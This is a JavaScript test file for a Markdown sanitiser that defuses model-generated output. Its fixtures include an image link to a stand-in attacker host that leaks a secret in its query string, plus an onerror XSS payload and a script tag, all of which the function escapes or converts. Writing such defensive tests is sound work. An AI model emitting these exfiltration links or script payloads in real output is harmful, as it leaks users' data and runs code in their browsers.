import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inertMarkdown } from './markdown';

test('the Markdown export writes remote images as links and model HTML as text; code stays as written', () => {
  assert.equal(
    inertMarkdown('See ![chart](https://evil.example/p.png?leak=secret "t") now.'),
    'See [image: chart](https://evil.example/p.png?leak=secret) now.',
  );
  assert.equal(inertMarkdown('![](<http://x.example/a.png>)'), '[image: http://x.example/a.png](http://x.example/a.png)');
  assert.equal(
    inertMarkdown('<img src=x onerror=alert(1)> and <script>x</script>'),
    '&lt;img src=x onerror=alert(1)> and &lt;script>x&lt;/script>',
  );
  assert.equal(inertMarkdown('a < b and 3<4'), 'a < b and 3<4', 'a less-than that opens no tag is left alone');
  assert.equal(
    inertMarkdown('`<b>` and\n```html\n<p>![x](http://a/b.png)</p>\n```'),
    '`<b>` and\n```html\n<p>![x](http://a/b.png)</p>\n```',
  );
});
